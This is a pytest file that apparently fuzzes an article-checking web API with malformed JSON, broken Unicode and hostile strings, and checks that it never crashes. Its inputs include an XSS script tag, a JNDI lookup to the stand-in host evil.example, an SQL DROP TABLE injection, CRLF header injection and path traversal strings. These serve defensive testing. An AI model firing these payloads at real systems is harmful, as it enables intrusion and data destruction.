"""What nobody writes by accident, through every address: an answer or a problem, never a traceback."""

from __future__ import annotations

import json

import pytest

DEEP = "[" * 90 + '"x"' + "]" * 90
TEXTS = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\x00\x01\x1b[31m\x7f\u202e\u2066\ufeff\U000e0041",
    "a\ud83d b\ude00 \ud800\ud800 \udfff",
    "{{ 7 * 7 }} ${jndi:ldap://evil.example/a} '; DROP TABLE articles; --",
    "́" * 3_000,
    "(" * 5_000 + ")" * 5_000,
    "😀" * 3_000 + ".A" * 500,
    "\r\r\n\n\r\v\f\x85\u2028\u2029" * 200,
    "/html/head/meta[@name='og:title']/@content " * 200,
)
HOSTILE = [
    json.dumps({"headline": text, "body": text, "url": f"javascript:{text}", "authors": [text]}) for text in TEXTS
]
HOSTILE += [
    f'{{"headline": "A", "body": {DEEP}}}',
    '{"headline": {"a": [1e999, -0, 1E400]}, "body": 123456789012345678901234567890, "id": null}',
    '{"body": "a", "body": "b", "headline": []}',
    '{"headline": "x", "published": "9999999999999999", "modified": "-1", "images": [{"width": 1e99, "url": 5}]}',
    '{"": {"": ""}, "body": "x", "@graph": [], "@context": {"a": "b"}}',
]
PLACES = (("POST", "/v1/check"), ("POST", "/v1/check/batch"), ("PUT", "/v1/published/hostile"))


def is_sound(response) -> None:
    assert response.status_code < 500, response.text
    assert "Traceback" not in response.text
    response.content.decode("utf-8")
    for line in response.text.splitlines() if "ndjson" in response.headers["content-type"] else [response.text]:
        json.loads(line)
    assert not any(character in response.text for character in "\x00\x1b\u202e\u2028")


@pytest.mark.parametrize("at", range(len(HOSTILE)))
@pytest.mark.parametrize(("method", "path"), PLACES)
def test_articles(server, method, path, at):
    is_sound(server.client.request(method, path, content=HOSTILE[at].encode()))


@pytest.mark.parametrize("at", range(len(TEXTS)))
def test_texts(server, at):
    text = TEXTS[at]
    plain = text.encode("utf-8", "replace").decode()
    is_sound(server.client.post("/v2/check", data={"language": "en", "text": plain}))
    data = json.dumps({"annotation": [{"text": text}, {"markup": text, "interpretAs": text}, {"text": text}]})
    answer = server.client.post("/v2/check", data={"language": "auto", "data": data})
    is_sound(answer)
    length = 3 * sum(2 if ord(one) > 0xFFFF else 1 for one in text)
    for match in answer.json()["matches"]:
        assert 0 <= match["offset"] <= match["offset"] + match["length"] <= length


def test_an_answer_does_not_grow_without_end(server):
    body = "a &amp; b\n" * 5_000
    answer = server.client.post("/v1/check", json={"headline": "A", "body": body}).json()
    finding = next(one for one in answer["findings"] if one["code"] == "LK009")
    assert finding["count"] == 5_000
    assert len(finding["places"]) == 500


def test_half_a_character_is_a_finding(server):
    answer = server.client.post("/v1/check", content=json.dumps({"headline": "A", "body": "a\ud83d b"}).encode()).json()
    assert "DF004" in {finding["code"] for finding in answer["findings"]}


def test_ids(server):
    for name in ("%00", "%ff", "%ED%A0%80", "a" * 3_000, "%0d%0aX-Evil:1", "..%2f..%2fetc", "%20"):
        is_sound_or_empty(server.client.put(f"/v1/published/{name}", json={"headline": "A", "body": "b " * 40}))
        is_sound_or_empty(server.client.delete(f"/v1/published/{name}"))


def is_sound_or_empty(response) -> None:
    if response.status_code == 204:
        return
    is_sound(response)


def test_it_still_works_afterwards(server, article):
    assert server.client.post("/v1/check", json=article).json()["verdict"] == "pass"
